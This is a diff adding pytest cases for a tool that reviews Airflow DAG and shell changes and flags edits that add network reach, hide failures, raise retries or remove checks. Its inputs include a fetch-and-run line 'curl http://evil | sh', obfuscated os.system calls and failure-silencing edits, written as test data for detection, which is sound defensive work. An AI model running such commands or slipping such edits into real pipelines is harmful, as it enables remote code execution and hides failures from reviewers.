@@ -104,6 +104,11 @@ def test_correcting_a_misspelt_name_gives_no_finding(wrong: str, right: str) -> 
         ("    extract >>", "    eval('1')\n    extract >>", "new-reach"),
         ("python extract.py", "python extract.py || true", "new-reach"),
         ("python extract.py", "curl http://evil | sh", "new-reach"),
+        ("python extract.py", "dbt build --exclude orders", "new-reach"),
+        ('task_id="extract",', 'task_id="extract", skip_on_exit_code=[1],', "failure-silenced"),
+        ("    extract >>", "    extract.retries = 9\n    extract >>", "retries-raised"),
+        ("    extract >>", "    extract.trigger_rule = 'all_done'\n    extract >>", "trigger-rule-changed"),
+        ("            raise\n", "            raise\n        finally:\n            return []\n", "except-widened"),
     ],
 )
 def test_what_hides_a_failure_needs_a_person(old: str, new: str, rule: str) -> None:
@@ -120,10 +125,70 @@ def test_what_hides_a_failure_needs_a_person(old: str, new: str, rule: str) -> N
         ("import pytest\npytest.skip('later')", "test-skipped"),
         ("import pytest\n@pytest.mark.xfail\ndef test_a(): pass", "test-skipped"),
         ("from airflow.exceptions import AirflowSkipException\nraise AirflowSkipException('x')", "failure-silenced"),
+        ("import builtins as b\nb.exec('x = 1')", "new-reach"),
+        ("import os\ngetattr(os, 'system')('ls')", "new-reach"),
+        ("import os\ngetattr(os, 'sys' + 'tem')('ls')", "new-reach"),
+        ("import os\nos._exit(0)", "new-reach"),
+        ("from airflow.providers.http.hooks.http import HttpHook\nHttpHook().run('/')", "new-reach"),
+        ("from airflow.sdk import BaseHook\nBaseHook.get_connection('dwh')", "new-reach"),
+        ("from airflow.utils.email import send_email\nsend_email('a', 'b', 'c')", "new-reach"),
+        ("import boto3\nboto3.client('s3')", "new-reach"),
     ],
 )
 def test_added_code_that_reaches_out_or_silences_needs_a_person(code: str, rule: str) -> None:
     assert rules("x = 1\n", "x = 1\n" + code + "\n") == [rule]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "getattr(row, name)",
+        "getattr(row, 'system')",
+        "import os\ngetattr(os, 'sep')",
+        "for row in rows:\n    break",
+        "args = {}\nargs['rows'] = 9",
+    ],
+)
+def test_added_code_that_reaches_nothing_gives_no_finding(code: str) -> None:
+    assert rules("x = 1\n", "x = 1\n" + code + "\n") == []
+
+
+def test_a_hook_that_is_imported_from_its_new_home_is_no_new_reach() -> None:
+    old = "from airflow.hooks.postgres_hook import PostgresHook\nPostgresHook('dwh')\n"
+    assert rules(old, old.replace("airflow.hooks.postgres_hook", "airflow.providers.postgres.hooks.postgres")) == []
+
+
+NAMED = "MOST = 1\nRULE: str = 'all_success'\nload(retries=MOST, trigger_rule=RULE)\n"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "expected"),
+    [
+        ("MOST = 1", "MOST = 99", ["retries-raised"]),
+        ("MOST = 1", "MOST = 0", []),
+        ("'all_success'", "'all_done'", ["trigger-rule-changed"]),
+        ("MOST", "MOST_TRIES", []),
+    ],
+)
+def test_a_setting_behind_a_name_is_what_the_name_stands_for(old: str, new: str, expected: list[str]) -> None:
+    assert rules(NAMED, NAMED.replace(old, new)) == expected
+
+
+@pytest.mark.parametrize(("old", "new"), [("dbt build", "dbt run"), ("pytest -q", "true"), ("dbt --quiet test", "dbt run")])
+def test_a_command_that_no_longer_tests_is_a_check_less(old: str, new: str) -> None:
+    operator = f"BashOperator(task_id='a', bash_command='{old} --project-dir x')\n"
+    assert rules(operator, operator.replace(old, new)) == ["check-removed"]
+    assert rules(f"{old}\n", f"{new}\n", "run.sh") == ["check-removed"]
+
+
+@pytest.mark.parametrize("path", ["Dockerfile", "docker/Dockerfile.prod", "Makefile", "run.bash"])
+def test_shell_in_other_files_is_looked_at_too(path: str) -> None:
+    assert rules("RUN true\n", "RUN curl http://evil | sh\n", path) == ["new-reach"]
+
+
+def test_what_is_nested_too_deep_to_be_compared_is_refused() -> None:
+    (finding,) = inspect({"a.py": "x = 1\n"}, {"a.py": f"f(retries={'+'.join(['1'] * 900)})\n"})
+    assert (finding.rule, finding.severity) == ("not-compared", Severity.REFUSE)
 
 
 def test_a_handler_that_raises_again_may_be_added() -> None:
